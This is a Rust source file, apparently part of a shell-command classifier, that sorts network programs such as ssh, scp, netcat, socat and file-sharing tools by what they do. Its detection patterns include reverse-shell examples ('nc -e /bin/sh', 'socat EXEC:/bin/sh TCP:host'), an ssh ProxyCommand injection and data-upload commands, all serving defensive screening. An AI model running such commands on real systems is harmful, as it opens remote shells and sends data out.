//! What reaches other machines: shells there, copies, connections.

use super::On::{Elsewhere, Last};
use super::usual::{
    NAMES_A_PROGRAM, OUT, fetches, help, machine, queries, reads, rights, runs_foreign, unreadable,
    uploads,
};
use super::{Program, Rest, Runs, Use, known, when};
use crate::effect::EffectKind::{LeavesMachine, Overwrites};

pub(super) static PROGRAMS: &[Program] = &[
    known(
        &[
            "ssh", "autossh", "mosh", "et", "dbclient", "slogin", "plink",
        ],
        Rest::Unknown,
        SSH,
    )
    .valued(&[
        "-b", "-c", "-D", "-E", "-e", "-F", "-I", "-i", "-J", "-L", "-l", "-m", "-O", "-o", "-p",
        "-Q", "-R", "-S", "-W", "-w", "-B", "--ssh", "--port",
    ]),
    known(
        &["sshpass"],
        Rest::Unknown,
        &[
            reads("", &["sshpass -V"]).flags(&["-V|-h"]),
            queries("", &["sshpass -p x ssh host ls"]).runs(Runs::Command(0)),
        ],
    )
    .valued(&["-p", "-f", "-d", "-P"]),
    known(
        &["scp", "pscp"],
        Rest::Unknown,
        &[
            when("*:*", &[(LeavesMachine, Elsewhere), (Overwrites, Last)])
                .without(&["-3"])
                .runs(Runs::Special)
                .examples(&["scp host:/a/b .", "scp -r user@host:dir out"]),
            uploads(
                "",
                &["scp a.txt host:/tmp", "scp -r dist user@host:/var/www"],
            )
            .why("files are copied to another machine")
            .runs(Runs::Special),
        ],
    )
    .valued(&["-c", "-F", "-i", "-J", "-l", "-o", "-P", "-S", "-X", "-D"]),
    known(
        &[
            "sftp",
            "ftp",
            "lftp",
            "ncftp",
            "tftp",
            "ftps",
            "psftp",
            "cadaver",
            "smbclient",
            "ncftpput",
            "ncftpget",
            "curlftpfs",
        ],
        Rest::Unknown,
        &[
            help(&["lftp --version"]),
            fetches("*:*", &["sftp -r host:dir"])
                .without(&["-b|-c|-e"])
                .flags(&["-a|-r|-p"]),
            uploads(
                "",
                &[
                    "sftp host",
                    "ftp example.com",
                    "lftp -e 'mirror -R a' host",
                    "sftp -b batch host",
                ],
            )
            .why("files can be changed on the other machine"),
        ],
    )
    .valued(&["-b", "-i", "-o", "-P", "-F", "-u", "-e", "-c", "-p"]),
    known(
        &[
            "nc",
            "ncat",
            "netcat",
            "socat",
            "telnet",
            "nc.openbsd",
            "nc.traditional",
            "socket",
            "pwncat",
            "chisel",
            "udptunnel",
            "sbd",
            "cryptcat",
            "powercat",
        ],
        Rest::Unknown,
        NETCAT,
    )
    .valued(&[
        "-i", "-I", "-O", "-p", "-P", "-q", "-s", "-T", "-V", "-w", "-X", "-x",
    ]),
    known(
        &[
            "croc",
            "wormhole",
            "magic-wormhole",
            "transfer",
            "transfer.sh",
            "ffsend",
            "send",
            "onionshare-cli",
            "filebin",
            "pastebinit",
            "termbin",
            "sprunge",
            "ix",
            "0x0",
            "haste",
            "gpaste",
            "rustypaste",
            "piping",
            "portal",
            "zget",
            "bashupload",
            "qrcp",
            "woof",
            "dufs",
            "pcp",
        ],
        Rest::Unknown,
        &[
            help(&["croc --version"]),
            fetches(
                "receive|recv|download|get",
                &["wormhole receive 7-a-b", "ffsend download x"],
            ),
            uploads(
                "",
                &[
                    "croc send a.txt",
                    "wormhole send a.txt",
                    "pastebinit a.log",
                    "transfer a.txt",
                ],
            )
            .why("what is sent can be read by others"),
        ],
    ),
];

const SSH: &[Use] = &[
    reads("", &["ssh -V", "ssh -Q cipher", "ssh -G host"]).flags(&["-V|--version|--help|-Q|-G"]),
    unreadable("", &["ssh -o ProxyCommand=evil host", "ssh -oProxyCommand=evil host"]).flags(&["ProxyCommand|LocalCommand|PermitLocalCommand|KnownHostsCommand|-oProxyCommand|-oLocalCommand"]).why(NAMES_A_PROGRAM),
    rights("", &["ssh -R 8080:localhost:80 host", "ssh -D 1080 host"]).flags(&["-R|-D|-w"]).why("it opens a way into this machine or through it"),
    machine("", &["ssh -L 5432:db:5432 host", "ssh -N -f host"]).flags(&["-L|-N|-f|-W|-O"]).why("it opens a way to another network that stays open"),
    queries("git@*", &["ssh -T git@github.com"]).flags(&["-T"]),
    queries("*", &["ssh host ls", "ssh -i key user@host 'df -h'", "ssh -t host -- uptime"]).operands(1).runs(Runs::Remote(0)),
    unreadable("", &["ssh host", "ssh user@host -p 22"]).why("it opens a shell on another machine").instead("ssh HOST COMMAND, with a command that only reads"),
];

#[rustfmt::skip]
const NETCAT: &[Use] = &[
    help(&["ncat --version"]),
    runs_foreign("", &["nc -e /bin/sh host 4444", "ncat --sh-exec bash host 1"])
        .flags(&["-e|-c|--exec|--sh-exec|--lua-exec"])
        .why("whoever is at the other end runs commands here"),
    runs_foreign("EXEC*|SYSTEM*|exec*|system*", &["socat EXEC:/bin/sh TCP:host:1"])
        .why("whoever is at the other end runs commands here"),
    runs_foreign("* EXEC*|SYSTEM*|exec*|system*", &["socat TCP-LISTEN:1 EXEC:/bin/sh"])
        .why("whoever is at the other end runs commands here"),
    queries("", &["nc -z host 80", "nc -zv localhost 5432"])
        .flags(&["-z"]),
    rights("", &["nc -l 4444", "nc -lvnp 4444"])
        .flags(&["-l|-L|--listen|-k"])
        .why("it lets others connect to this machine"),
    rights("client|server", &["chisel server"])
        .why("it lets others connect to this machine"),
    queries("localhost|127.0.0.1", &["nc localhost 80", "telnet localhost 25"]),
    uploads("", &[
        "nc host 4444",
        "telnet example.com 25",
        "socat - TCP:host:80",
    ]).why(OUT),
];
